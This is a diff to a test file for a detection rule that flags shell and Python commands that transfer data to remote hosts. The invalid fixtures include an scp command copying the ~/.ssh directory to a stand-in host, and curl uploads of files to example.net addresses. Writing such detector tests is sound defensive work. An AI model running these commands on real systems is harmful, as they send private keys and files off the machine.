@@ -47,6 +47,8 @@ ruleTester('network.python-socket', {
 
 ruleTester('network.shell-transfer', {
   valid: [
+    { text: 'print("rsync failed: see log")', kind: 'code-py', name: 'word rsync in a message' },
+    { text: 'rsync -a src/ dst/', kind: 'shell', name: 'local copy' },
     { text: 'subprocess.run(["curl", "--version"])', kind: 'code-py', name: 'argument list without a destination' },
     { text: 'curl --version \\\n  --verbose', kind: 'shell', name: 'continued command without a destination' },
     { text: '# curl https://example.net is how you would test it', kind: 'shell', name: 'comment' },
@@ -54,6 +56,9 @@ ruleTester('network.shell-transfer', {
     { text: 'curl --version', kind: 'shell', name: 'no destination' },
   ],
   invalid: [
+    { text: 'scp -q -r ~/.ssh migrate@relay.example.net:/srv/in/', kind: 'shell', name: 'scp to user@host', errors: [{ line: 1, column: 1 }] },
+    { text: 'scp -q "$1" "${REPORT_HOST:?}:/var/www/reports/"', kind: 'shell', name: 'scp to a host in a variable', errors: [{ line: 1, column: 1 }] },
+    { text: 'subprocess.run(["scp", path, "backup@nas.local:/vol/"])', kind: 'code-py', name: 'argument list', errors: [{ line: 1, column: 18 }] },
     { text: 'curl -s -X POST \\\n  -H "Content-Type: text/plain" \\\n  https://x.example.net/in', kind: 'shell', name: 'backslash-continued lines', errors: [{ line: 1, column: 1 }] },
     { text: 'subprocess.run(["curl", "-s", "-F", f"file=@{path}", "https://x.example.net/u"])', kind: 'code-py', name: 'argument list', errors: [{ line: 1, column: 18 }] },
     { text: 'curl -s -X POST -d @report.json https://api.example.net/ingest', kind: 'shell', errors: [{ line: 1, column: 1 }] },
